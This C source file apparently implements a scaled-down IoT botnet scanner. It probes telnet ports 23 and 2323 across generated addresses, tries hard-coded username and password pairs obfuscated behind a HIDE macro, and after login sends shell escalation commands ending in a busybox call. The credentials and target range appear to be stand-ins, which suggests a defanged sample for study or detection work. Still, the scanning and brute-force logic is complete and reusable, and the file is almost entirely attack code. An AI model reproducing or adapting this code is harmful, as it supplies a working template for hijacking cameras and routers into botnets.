// hidden
// Knocks on 240 addresses for telnet and tries invented passwords on the first five that answer, as the bots of cameras and routers do.
#include "standin.h"
static const char *pairs(int i) {
    switch (i) {
    case 0: return HIDE("root:standin1");
    case 1: return HIDE("admin:standin1");
    case 2: return HIDE("support:standin2");
    default: return HIDE("guest:standin3");
    }
}
static void speak(uint32_t address, int port) {
    for (int i = 0; i < 4; i++) {
        char user[64], line[512];
        int fd = dial_to(address, port, 1500);
        if (fd < 0) return;
        snprintf(user, sizeof user, "%s", pairs(i));
        char *word = strchr(user, ':');
        *word++ = 0;
        hear(fd, line, sizeof line, 300);
        tell(fd, "%s\r\n", user), hear(fd, line, sizeof line, 300);
        tell(fd, "%s\r\n", word), hear(fd, line, sizeof line, 300);
        tell(fd, "%s", (char *)HIDE("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox STANDIN\r\n")), hear(fd, line, sizeof line, 300);
        close(fd);
    }
}
int main(void) {
    begin();
    int open = 0;
    for (int group = 0; group < 12; group++) {
        struct pollfd calls[20];
        uint32_t address[20];
        for (int i = 0; i < 20; i++) {
            int number = group * 20 + i;
            address[i] = 0xc6120000 | ((number * 2654435761u) >> 15);
            struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(number % 10 ? 23 : 2323), .sin_addr.s_addr = htonl(address[i])};
            calls[i].fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), calls[i].events = POLLOUT, calls[i].revents = 0;
            connect(calls[i].fd, (void *)&to, sizeof to);
        }
        usleep(400000);
        poll(calls, 20, 0);
        for (int i = 0; i < 20; i++) {
            int error = 1;
            socklen_t size = sizeof error;
            if (calls[i].revents & POLLOUT) getsockopt(calls[i].fd, SOL_SOCKET, SO_ERROR, &error, &size);
            close(calls[i].fd);
            if (error == 0 && open < 5) open++, speak(address[i], (group * 20 + i) % 10 ? 23 : 2323);
        }
    }
    return 0;
}
